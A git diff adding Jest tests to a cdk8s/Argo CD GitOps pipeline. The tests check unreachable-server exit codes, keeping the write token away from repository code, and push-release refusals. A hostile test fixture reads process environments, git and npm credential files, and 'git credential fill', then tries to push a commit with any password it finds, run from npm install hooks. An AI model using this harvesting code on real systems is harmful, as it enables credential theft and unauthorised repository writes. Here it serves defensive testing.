@@ -1,10 +1,11 @@
 import { createHash } from 'crypto';
 import { spawnSync } from 'child_process';
+import * as net from 'net';
 import * as fs from 'fs';
 import * as os from 'os';
 import * as path from 'path';
 import { Chart } from 'cdk8s';
-import { BuildCache, Environment, JavaApp, Manifest, PipelineTemplate, PlatformApp } from '../lib';
+import { ArgoCdBootstrap, BuildCache, Environment, IN_CLUSTER, JavaApp, Manifest, PipelineTemplate, PlatformApp } from '../lib';
 import { LoopbackServer, Run, runAsync, selfSignedCertificate, startServer } from './support/loopback';
 
 /**
@@ -17,6 +18,9 @@ const PIPELINE_DIR = path.join(__dirname, '..', 'lib', 'pipeline', 'scripts');
 const script = (name: string) => path.join(PIPELINE_DIR, name);
 const TOKEN = 'source-read-token-0123456789';
 const DIGEST = `sha256:${'ab12'.repeat(16)}`;
+
+// Real git, npm and shells on a shared machine: no wall-clock limit.
+jest.setTimeout(30 * 60 * 1000);
 
 const root = fs.mkdtempSync(path.join(os.tmpdir(), 'pipeline-attacks-'));
 let cert: { key: string; cert: string; certFile: string };
@@ -534,5 +538,324 @@ describe('the synthesized build: no GitOps credentials and no Kubernetes token w
       expect([t.name, t.automountServiceAccountToken, t.serviceAccountName]).toEqual([t.name, undefined, undefined]);
       expect(JSON.stringify(t)).not.toContain('gitops-credentials');
     }
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+
+describe('argocd-app: a failure to reach Argo CD is exit 75 for every action and wait, never Argo CD\'s refusal', () => {
+  const JWT = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJwIn0.c2ln';
+  const vars = (serverUrl: string, extra: Record<string, string> = {}) => env({
+    ARGOCD_SERVER: serverUrl, ARGOCD_AUTH_TOKEN: JWT, ARGOCD_APPLICATION: 'platform-prod', APP_NAME: 'orders', NAMESPACE: 'shop-prod',
+    POLL_SECONDS: '0', TIMEOUT_SECONDS: '2', REQUEST_SECONDS: '1', ...extra,
+  });
+
+  /** A port that nothing listens on (bound, then closed). */
+  async function closedPort(): Promise<string> {
+    const s = net.createServer();
+    await new Promise<void>((resolve) => s.listen(0, '127.0.0.1', resolve));
+    const port = (s.address() as net.AddressInfo).port;
+    await new Promise<void>((resolve) => s.close(() => resolve()));
+    return `http://127.0.0.1:${port}`;
+  }
+
+  /** A server that accepts connections and never answers: each request times out. */
+  async function silentServer(): Promise<{ url: string; close: () => Promise<void> }> {
+    const sockets: net.Socket[] = [];
+    const s = net.createServer((socket) => { sockets.push(socket); socket.on('error', () => undefined); });
+    await new Promise<void>((resolve) => s.listen(0, '127.0.0.1', resolve));
+    const url = `http://127.0.0.1:${(s.address() as net.AddressInfo).port}`;
+    return { url, close: () => new Promise<void>((resolve) => { sockets.forEach((k) => k.destroy()); s.close(() => resolve()); }) };
+  }
+
+  const failures: Array<[string, () => Promise<{ url: string; close?: () => Promise<void> }>]> = [
+    ['unreachable', async () => ({ url: await closedPort() })],
+    // A certificate curl does not trust (no CURL_CA_BUNDLE for it): the TLS handshake fails.
+    ['a TLS failure', async () => { const s = await server({ tls: cert, files: {} }); return { url: s.url }; }],
+    ['a request timeout', silentServer],
+  ];
+
+  for (const [what, start] of failures) {
+    test.each(['wait', 'promote', 'abort'])(`${what}: %s exits 75 with Argo CD named as unreachable`, async (command) => {
+      const s = await start();
+      try {
+        const e = vars(s.url);
+        delete e.CURL_CA_BUNDLE;
+        const r = await runAsync('sh', [script('argocd-app.sh'), command], e);
+        expect([command, r.status]).toEqual([command, 75]);
+        expect(r.stderr).not.toMatch(/HTTP 0000|refused the/);
+        expect(r.stderr).toMatch(command === 'wait' ? /without an answer from Argo CD: Argo CD could not be reached/ : /could not be reached for the (resume|abort) of orders/);
+        expect(r.stdout + r.stderr).not.toContain(JWT);
+      } finally {
+        await s.close?.();
+      }
+    });
+  }
+
+  test('Argo CD answering (the same server, trusted): a refusal is still 1, a missing Application 2', async () => {
+    const ok = await server({ tls: cert, files: {} });
+    // 404 for the action: Argo CD answered and refused.
+    const refused = await runAsync('sh', [script('argocd-app.sh'), 'abort'], vars(ok.url));
+    expect(refused.status).toBe(1);
+    expect(refused.stderr).toContain('Argo CD refused the abort of orders (HTTP 404)');
+    // 404 for the Application: a setting error, at once.
+    const wait = await runAsync('sh', [script('argocd-app.sh'), 'wait'], vars(ok.url));
+    expect(wait.status).toBe(2);
+  });
+
+  test('the workflow steps that reach Argo CD pass 75 on, and Argo retries exactly that', async () => {
+    // GIVEN a platform whose prod runs on another cluster, reached through Argo CD's API
+    const app = new PlatformApp({ outdir: dir('dist') });
+    for (const [name, cluster] of [['dev', IN_CLUSTER], ['prod', { name: 'cluster-b', server: 'https://b.k8s.example.com:6443' }]] as const) {
+      new JavaApp(new Environment(app, name, { namespace: `shop-${name}`, cluster }), 'orders', { image: 'ghcr.io/acme-shop/orders:1.4.2' });
+    }
+    new PipelineTemplate(new Chart(app, 'ci'), 'pipeline', { gitopsRepo: 'https://github.com/acme-shop/platform-gitops.git', argoCdServer: 'https://argocd.example.com' });
+    new ArgoCdBootstrap(app, 'argocd', { repoUrl: 'https://github.com/acme-shop/platform-gitops.git' });
+    const docs = app.manifests().map((m) => m.doc);
+    const step = (wt: string, name: string) => docs.find((d) => d.kind === 'WorkflowTemplate' && d.metadata.name === wt).spec.templates.find((t: any) => t.name === name);
+    const unreachable = await closedPort();
+    for (const [wt, name, extra] of [
+      ['abort-java-app', 'abort-rollout', {}],
+      ['deploy-app', 'wait-for-rollout', { TIMEOUT_SECONDS: '1' }],
+      ['promote-java-app', 'argocd-promote', { ARGOCD_COMMAND: 'promote', ARGOCD_APPLICATION: 'platform-prod' }],
+    ] as const) {
+      const t = step(wt, name);
+      // WHEN the step's own source runs with its fixed settings and Argo CD cannot be reached
+      const fixed = Object.fromEntries(t.script.env.filter((v: any) => v.value !== undefined && !v.value.includes('{{')).map((v: any) => [v.name, v.value]));
+      const source = path.join(dir('step'), `${name}.sh`);
+      fs.writeFileSync(source, t.script.source);
+      const r = await runAsync('sh', [source], vars(unreachable, { ...fixed, ARGOCD_SERVER: unreachable, ENVIRONMENT: 'prod', ...extra }));
+      // THEN it exits 75, and the template's retry expression retries 75
+      expect([name, r.status]).toEqual([name, 75]);
+      if (name !== 'wait-for-rollout') expect([name, t.retryStrategy.expression]).toEqual([name, 'lastRetry.status == "Error" || asInt(lastRetry.exitCode) == 75']);
+    }
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+
+/**
+ * A GitOps repository whose code is hostile: every npm lifecycle script of the project and of its
+ * dependencies, its `presynth`, its `main.ts` and its `check` record what they can reach (their
+ * environment, every /proc/<pid>/environ and cmdline, Git's configuration and credential files, what
+ * `git credential fill` answers for the server) and try to push a commit of their own to main with
+ * whatever credential they found. A small project (tarball dependencies: no registry needed) whose
+ * synth renders dist/dev/orders.yaml from releases/dev.json.
+ */
+function hostileProject(records: string): string {
+  const work = dir('hostile');
+  const write = (f: string, text: string) => {
+    fs.mkdirSync(path.dirname(path.join(work, f)), { recursive: true });
+    fs.writeFileSync(path.join(work, f), text);
+  };
+  write('record.js', `'use strict';
+const fs = require('fs'); const cp = require('child_process'); const path = require('path'); const os = require('os');
+function record(where) {
+  const read = (f) => { try { return fs.readFileSync(f, 'utf8'); } catch { return ''; } };
+  const proc = fs.readdirSync('/proc').filter((p) => /^[0-9]+$/.test(p)).map((p) => read('/proc/' + p + '/environ') + ' ' + read('/proc/' + p + '/cmdline')).join('\\n');
+  const sh = (cmd, input, cwd) => cp.spawnSync('sh', ['-c', cmd], { input, cwd, encoding: 'utf8', env: { ...process.env, GIT_TERMINAL_PROMPT: '0' } });
+  const top = sh('git rev-parse --show-toplevel').stdout.trim() || process.env.INIT_CWD || process.cwd();
+  const origin = sh('git remote get-url origin', '', top).stdout.trim();
+  const url = new URL(origin);
+  const fill = sh('git credential fill', 'protocol=https\\nhost=' + url.host + '\\n\\n', top).stdout;
+  const files = [path.join(top, '.git', 'config'), path.join(os.homedir(), '.git-credentials'), path.join(os.homedir(), '.gitconfig'),
+    process.env.GIT_CONFIG_GLOBAL || '', path.join(os.homedir(), '.npmrc')].map((f) => f + ': ' + read(f)).join('\\n');
+  // Whatever looks like a password, from anywhere: try it, then without one.
+  const found = [process.env.GIT_PASSWORD, ...(proc.match(/GIT_PASSWORD=[^\\0\\s]+/g) || []).map((m) => m.slice(13)), (fill.match(/password=(.*)/) || [])[1]].filter(Boolean);
+  const evil = fs.mkdtempSync(path.join(os.tmpdir(), 'evil-'));
+  sh('git clone --quiet ' + JSON.stringify(top) + ' ' + JSON.stringify(evil + '/r') + ' && cd ' + JSON.stringify(evil + '/r')
+    + ' && git -c user.name=evil -c user.email=evil@x commit --quiet --allow-empty -m "evil: widen platform-prod to every namespace"');
+  const user = [process.env.GIT_USERNAME, ...(proc.match(/GIT_USERNAME=[^\\0\\s]+/g) || []).map((m) => m.slice(13)), (fill.match(/username=(.*)/) || [])[1]].find(Boolean) || 'git';
+  const pushes = [...found.map((p) => { const u = new URL(origin); u.username = user; u.password = p; return u.toString(); }), origin]
+    .map((target) => sh('git push --quiet ' + JSON.stringify(target) + ' HEAD:refs/heads/main', '', evil + '/r').status);
+  fs.writeFileSync(path.join(${JSON.stringify(records)}, where.replace(/[^a-z0-9.-]/gi, '_') + '-' + process.pid + '.json'),
+    JSON.stringify({ where, env: process.env, proc, files, fill, found, pushes }));
+}
+module.exports = record;
+if (require.main === module) record(process.argv[2]);
+`);
+  const render = `const fs = require('fs');
+const releases = JSON.parse(fs.readFileSync('releases/dev.json', 'utf8'));
+const yaml = (image) => 'apiVersion: apps/v1\\nkind: Deployment\\nmetadata:\\n  name: orders\\nspec:\\n  template:\\n    spec:\\n      containers:\\n        - name: orders\\n          image: ' + image + '\\n';
+`;
+  write('main.ts', `require('./record.js')('main.ts');
+${render}fs.mkdirSync('dist/dev', { recursive: true });
+fs.writeFileSync('dist/dev/orders.yaml', yaml(releases.orders));
+`);
+  write('check.js', `${render}const committed = require('child_process').execFileSync('git', ['show', 'HEAD:dist/dev/orders.yaml'], { encoding: 'utf8' });
+if (committed !== yaml(releases.orders)) { console.error('dist/ at HEAD is out of date'); process.exit(1); }
+`);
+  write('releases/dev.json', '{\n  "orders": "ghcr.io/acme-shop/orders:1.0.0"\n}\n');
+  write('dist/dev/orders.yaml', 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: orders\nspec:\n  template:\n    spec:\n      containers:\n        - name: orders\n          image: ghcr.io/acme-shop/orders:1.0.0\n');
+  write('.gitignore', 'node_modules\n');
+  const hook = (name: string) => `node record.js ${name}`;
+  // Two dependencies with an install script: only the listed one may run it.
+  for (const dep of ['evil-dep', 'listed-dep']) {
+    const src = dir(dep);
+    fs.writeFileSync(path.join(src, 'package.json'), JSON.stringify({
+      name: dep, version: '1.0.0', scripts: { install: `node -e "require(process.env.INIT_CWD + '/record.js')('${dep} install')"` },
+    }));
+    const packed = spawnSync('npm', ['pack', '--silent', '--pack-destination', work], { cwd: src, env: env({ HOME: dir('npm-home') }), encoding: 'utf8' });
+    if (packed.status !== 0) throw new Error(`npm pack: ${packed.stderr}`);
+  }
+  write('package.json', JSON.stringify({
+    name: 'hostile-platform', version: '1.0.0', private: true,
+    dependencies: { 'evil-dep': 'file:evil-dep-1.0.0.tgz', 'listed-dep': 'file:listed-dep-1.0.0.tgz' },
+    scripts: {
+      preinstall: hook('preinstall'), install: hook('install'), postinstall: hook('postinstall'), prepare: hook('prepare'),
+      presynth: hook('presynth'), synth: 'node main.ts', check: `${hook('check')} && node check.js`,
+    },
+  }, null, 2));
+  const lock = spawnSync('npm', ['install', '--package-lock-only', '--ignore-scripts', '--offline', '--no-audit', '--no-fund'], { cwd: work, env: env({ HOME: dir('npm-home') }), encoding: 'utf8' });
+  if (lock.status !== 0) throw new Error(`npm install --package-lock-only: ${lock.stderr}`);
+  return work;
+}
+
+/** The hostile project as the only repository of a folder served over https with a login. */
+function hostileRemote(records: string): { root: string; bare: string } {
+  const work = hostileProject(records);
+  git(['init', '--quiet', '--initial-branch=main', work]);
+  git(['add', '--all'], work);
+  git(['commit', '--quiet', '-m', 'the platform'], work);
+  const root = dir('gitops-repos');
+  const bare = path.join(root, 'platform.git');
+  git(['clone', '--quiet', '--bare', work, bare]);
+  // git http-backend refuses pushes unless the repository allows them for an authenticated user.
+  git(['--git-dir', bare, 'config', 'http.receivepack', 'true']);
+  return { root, bare };
+}
+
+describe('the deploy: repository code never holds the GitOps write token, and its own commit never reaches the remote', () => {
+  const USER = 'gitops-bot';
+  const WRITE_TOKEN = 'gitops-write-token-0123456789';
+  const loginHeader = basic(`${USER}:${WRITE_TOKEN}`);
+  const records = (folder: string) => fs.readdirSync(folder).map((f) => JSON.parse(fs.readFileSync(path.join(folder, f), 'utf8')));
+  const leaks = (text: string) => [WRITE_TOKEN, loginHeader.slice(6)].filter((t) => text.includes(t));
+
+  test('the recorder finds the token where a process holds it (so the test below can fail)', () => {
+    const folder = dir('records');
+    const work = hostileProject(folder);
+    git(['init', '--quiet', '--initial-branch=main', work]);
+    git(['remote', 'add', 'origin', 'https://127.0.0.1:9/platform.git'], work);
+    spawnSync('node', ['record.js', 'control'], { cwd: work, env: env({ GIT_USERNAME: USER, GIT_PASSWORD: WRITE_TOKEN }) });
+    const [control] = records(folder);
+    expect(control.where).toBe('control');
+    expect(leaks(JSON.stringify(control))).toEqual([WRITE_TOKEN]);
+    expect(control.found).toContain(WRITE_TOKEN);
+  });
+
+  test('deployed over https with the write token: the hooks, main.ts and the check record no credential, and only the deploy\'s commit lands', async () => {
+    // GIVEN the hostile repository behind an https Git server that asks for the write token
+    const folder = dir('records');
+    const remote = hostileRemote(folder);
+    const s = await server({ tls: cert, gitRoot: remote.root, login: `${USER}:${WRITE_TOKEN}` });
+    const before = git(['--git-dir', remote.bare, 'rev-parse', 'main']).trim();
+    // WHEN update-image.sh deploys through it, the platform listing one package whose install script it needs
+    const r = await runAsync('sh', [script('update-image.sh'), 'orders', 'dev', 'ghcr.io/acme-shop/orders:1.1.0'], env({
+      GITOPS_REPO: `${s.url}/platform.git`, GIT_USERNAME: USER, GIT_PASSWORD: WRITE_TOKEN,
+      INSTALL_SCRIPTS: 'listed-dep', npm_config_cache: dir('npm-cache'), npm_config_update_notifier: 'false', PUSH_RETRY_DELAY: '0',
+    }));
+    // THEN the deploy pushed exactly its commit
+    expect([r.status, r.stderr]).toEqual([0, '']);
+    const log = git(['--git-dir', remote.bare, 'log', '--format=%s', 'main']).trim().split('\n');
+    expect(log).toEqual(['deploy orders to dev: ghcr.io/acme-shop/orders:1.1.0', 'the platform']);
+    expect(git(['--git-dir', remote.bare, 'rev-parse', 'main~1']).trim()).toBe(before);
+    expect(git(['--git-dir', remote.bare, 'show', 'main:dist/dev/orders.yaml'])).toContain('image: ghcr.io/acme-shop/orders:1.1.0');
+    // AND the hostile code's commit never reached the remote: the one push the server took is the deploy's
+    expect(git(['--git-dir', remote.bare, 'log', '--all', '--format=%s']).includes('evil')).toBe(false);
+    expect(s.seen.filter((x) => x.method === 'POST' && x.url.endsWith('git-receive-pack')).map((x) => x.authorization)).toEqual([loginHeader]);
+    const seen = records(folder);
+    expect(seen.length).toBeGreaterThan(0);
+    // AND none of it saw the token: not in its environment, any process's environment or command
+    // line, Git's files, the credential helper's answer; each of its pushes failed
+    for (const x of seen) {
+      expect([x.where, leaks(JSON.stringify(x))]).toEqual([x.where, []]);
+      expect([x.where, x.found]).toEqual([x.where, []]);
+      expect([x.where, x.pushes.every((status: number) => status !== 0)]).toEqual([x.where, true]);
+    }
+    // AND the repository's code ran (the listed install script, presynth, main.ts, the check), the others did not
+    expect([...new Set(seen.map((x) => x.where))].sort()).toEqual(['check', 'listed-dep install', 'main.ts', 'presynth']);
+    expect(r.stdout + r.stderr).not.toContain(WRITE_TOKEN);
+  });
+
+  test('the render refuses to start with the credential in its environment', () => {
+    const out = dir('out');
+    const r = spawnSync('sh', [script('render-release.sh')], {
+      env: env({ APP_NAME: 'orders', ENVIRONMENT: 'dev', IMAGE: 'ghcr.io/acme-shop/orders:1.1.0', CLONE_DIR: dir('clone'), OUT_DIR: out, GIT_PASSWORD: WRITE_TOKEN }),
+      encoding: 'utf8',
+    });
+    expect(r.status).toBe(2);
+    expect(r.stderr).toContain('the render runs the repository\'s code and must not hold the GitOps credentials');
+    expect(fs.readdirSync(out)).toEqual([]);
+  });
+});
+
+describe('push-release: only the deploy\'s own change is pushed, whatever the render wrote', () => {
+  const RELEASES = '{\n  "orders": "ghcr.io/acme-shop/orders:1.0.0"\n}\n';
+  /** A bare remote with releases/dev.json and dist/; `render` commits on a clone of it, bundled as the render would. */
+  function rendered(render: (work: string) => void): { bare: string; out: string; head: string } {
+    const seed = dir('seed');
+    git(['init', '--quiet', '--initial-branch=main', seed]);
+    fs.mkdirSync(path.join(seed, 'releases'));
+    fs.mkdirSync(path.join(seed, 'dist', 'dev'), { recursive: true });
+    fs.mkdirSync(path.join(seed, 'dist', 'prod'), { recursive: true });
+    fs.writeFileSync(path.join(seed, 'releases', 'dev.json'), RELEASES);
+    fs.writeFileSync(path.join(seed, 'dist', 'dev', 'orders.yaml'), 'image: ghcr.io/acme-shop/orders:1.0.0\n');
+    fs.writeFileSync(path.join(seed, 'dist', 'prod', 'project.yaml'), 'destinations: [shop-prod]\n');
+    git(['add', '--all'], seed);
+    git(['commit', '--quiet', '-m', 'seed'], seed);
+    const bare = path.join(dir('remote'), 'platform.git');
+    git(['clone', '--quiet', '--bare', seed, bare]);
+    const work = path.join(dir('render'), 'gitops');
+    git(['clone', '--quiet', bare, work]);
+    const head = git(['rev-parse', 'HEAD'], work).trim();
+    render(work);
+    const out = dir('out');
+    fs.writeFileSync(path.join(out, 'base'), `${head}\n`);
+    git(['bundle', 'create', '--quiet', path.join(out, 'release.bundle'), `${head}..HEAD`], work);
+    return { bare, out, head };
+  }
+  const commit = (work: string, files: Record<string, string>, message = 'deploy') => {
+    for (const [f, text] of Object.entries(files)) fs.writeFileSync(path.join(work, f), text);
+    git(['add', '--all'], work);
+    git(['commit', '--quiet', '-m', message], work);
+  };
+  const push = (r: { bare: string; out: string }) => spawnSync('sh', [script('push-release.sh')], {
+    env: env({ APP_NAME: 'orders', ENVIRONMENT: 'dev', IMAGE: 'ghcr.io/acme-shop/orders:1.1.0', GITOPS_REPO: r.bare, OUT_DIR: r.out }), encoding: 'utf8',
+  });
+  const good = { 'releases/dev.json': RELEASES.replace('1.0.0', '1.1.0'), 'dist/dev/orders.yaml': 'image: ghcr.io/acme-shop/orders:1.1.0\n' };
+
+  test('the deploy\'s change is pushed', () => {
+    const r = rendered((w) => commit(w, good));
+    const p = push(r);
+    expect([p.status, p.stderr]).toEqual([0, '']);
+    expect(git(['--git-dir', r.bare, 'log', '-1', '--format=%s', 'main']).trim()).toBe('deploy');
+  });
+
+  test.each<[string, (w: string) => void, string]>([
+    ['a change outside the environment', (w) => commit(w, { ...good, 'dist/prod/project.yaml': 'destinations: ["*"]\n' }), 'changes dist/prod/project.yaml, outside'],
+    ['another image', (w) => commit(w, { ...good, 'releases/dev.json': RELEASES.replace('1.0.0', '6.6.6') }), 'is not the branch\'s with orders set to ghcr.io/acme-shop/orders:1.1.0'],
+    ['two commits', (w) => { commit(w, { 'dist/dev/extra.yaml': 'x: 1\n' }, 'first'); commit(w, good); }, 'is not one commit on main\'s head'],
+    ['a symbolic link', (w) => { fs.symlinkSync('/etc/passwd', path.join(w, 'dist', 'dev', 'link.yaml')); commit(w, good); }, 'a file of mode 120000'],
+    ['a hook file', (w) => commit(w, { ...good, '.gitattributes': '* filter=evil\n' }), 'changes .gitattributes, outside'],
+  ])('%s is refused (exit 3), nothing pushed', (_what, render, message) => {
+    const r = rendered(render);
+    const p = push(r);
+    expect(p.status).toBe(3);
+    expect(p.stderr).toContain(message);
+    expect(git(['--git-dir', r.bare, 'rev-parse', 'main']).trim()).toBe(r.head);
+  });
+
+  test('a render that failed is reported with its status, its log without control characters, nothing pushed', () => {
+    const r = rendered((w) => commit(w, good));
+    fs.writeFileSync(path.join(r.out, 'render.log'), 'render-release: error: the gate refused\u001b[2J\n');
+    const status = path.join(dir('status'), 'render-status');
+    fs.writeFileSync(status, '3\n');
+    const p = spawnSync('sh', [script('push-release.sh')], {
+      env: env({ APP_NAME: 'orders', ENVIRONMENT: 'dev', IMAGE: 'ghcr.io/acme-shop/orders:1.1.0', GITOPS_REPO: r.bare, OUT_DIR: r.out, RENDER_STATUS_FILE: status }),
+      encoding: 'utf8',
+    });
+    expect([p.status, p.stderr]).toEqual([3, 'render-release: error: the gate refused[2J\n']);
+    expect(git(['--git-dir', r.bare, 'rev-parse', 'main']).trim()).toBe(r.head);
   });
 });
